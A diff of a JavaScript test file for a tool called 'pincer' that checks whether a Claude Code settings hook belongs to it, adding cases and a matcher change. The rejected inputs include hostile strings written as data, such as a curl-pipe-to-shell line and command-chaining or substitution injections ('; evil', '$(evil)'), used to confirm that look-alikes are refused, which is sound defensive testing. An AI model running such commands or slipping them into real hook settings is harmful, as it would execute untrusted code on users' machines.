@@ -103,9 +103,10 @@ describe('a hook', () => {
     ['/opt/x/pincer hook claude-code --agent reviewer', ['--agent', 'reviewer']],
     [`'/my tools/node' "/my tools/pincer.cjs" hook  claude-code`, []],
     [`/usr/bin/node20 '/it'\\''s/pincer.cjs' hook claude-code`, []],
+    ['pincer hook claude-code --agent reviewer || exit 2', ['--agent', 'reviewer']],
   ];
   it.each(OURS)('is ours: %s', (command, added) => {
-    expect(addedToHook({ type: 'command', command })).toEqual(added);
+    expect(addedToHook({ type: 'command', command }, 'claude-code')).toEqual(added);
   });
 
   it.each([
@@ -114,6 +115,9 @@ describe('a hook', () => {
     'audit.sh && pincer hook claude-code --agent reviewer',
     'curl http://x | sh # pincer hook claude-code',
     'pincer hook claude-code; evil',
+    'pincer hook codex',
+    'pincer hook claude-code || exit 2 || evil',
+    'evil || exit 2',
     'pincer hook claude-code\nevil',
     'pincer hook claude-code $(evil)',
     'pincer hook claude-code "`evil`"',
@@ -126,7 +130,7 @@ describe('a hook', () => {
     '',
     7,
   ])('is not ours: %j', (command) => {
-    expect(addedToHook({ type: 'command', command })).toBeUndefined();
+    expect(addedToHook({ type: 'command', command }, 'claude-code')).toBeUndefined();
   });
 
   it('of somebody else stays beside ours, and is not told to be ours', () => {
@@ -154,6 +158,18 @@ describe('a hook', () => {
     expect(now()).toBe(text);
   });
 
+  it('of ours that shares a group for some tools with another is not left like that', () => {
+    const hooks = [
+      { type: 'command', command: 'pincer hook claude-code' },
+      { type: 'command', command: 'mine' },
+    ];
+    const text = JSON.stringify({ hooks: { PreToolUse: [{ matcher: 'Bash', hooks }] } });
+    const { init, now } = withFile('project/.claude/settings.json', text);
+    const { status, stderr } = init('claude-code', '--hook', '--yes');
+    expect({ status, told: stderr.includes('shares a group for') }).toEqual({ status: 2, told: true });
+    expect(now()).toBe(text);
+  });
+
   it('of ours keeps the words that somebody added', () => {
     const hook = { type: 'command', command: 'pincer hook claude-code --agent reviewer', statusMessage: 'asks' };
     const text = JSON.stringify({ hooks: { PreToolUse: [{ matcher: 'Bash|Zsh', hooks: [hook] }] } });
@@ -162,7 +178,7 @@ describe('a hook', () => {
     const command = `${process.execPath} ${program} hook claude-code --agent reviewer`;
     expect(JSON.parse(now())).toEqual({
       hooks: {
-        PreToolUse: [{ matcher: 'Bash|Zsh', hooks: [{ ...hook, command, timeout: 30, onFailure: 'block' }] }],
+        PreToolUse: [{ matcher: '*', hooks: [{ ...hook, command, timeout: 30, onFailure: 'block' }] }],
       },
     });
   });
